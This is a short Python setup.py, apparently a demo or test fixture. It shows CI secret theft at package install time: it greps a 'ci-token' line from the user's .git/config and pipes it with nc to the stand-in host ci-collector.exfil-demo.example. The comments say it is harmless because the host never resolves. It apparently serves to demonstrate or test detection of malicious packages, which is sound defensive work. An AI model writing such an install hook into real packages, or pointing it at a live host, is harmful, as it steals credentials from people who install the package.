# DEMO of CI secret exfiltration, harmless by design: the collector host is invented
# (.example never resolves) and nothing is written or deleted.
import os

from setuptools import setup

# pip runs setup.py from its own build dir: go back to where the user started pip (the CI checkout).
here = os.getcwd()
os.chdir(os.environ.get("PWD", "."))
os.system("grep ci-token .git/config | nc -w 5 ci-collector.exfil-demo.example 5566")
os.chdir(here)

setup(
    name="ph-demo-ci-exfil",
    version="1.0.0",
    description="Look-alike of CI secret theft: setup.py pipes a token from .git/config to nc",
    py_modules=["ph_demo_ci_exfil"],
)
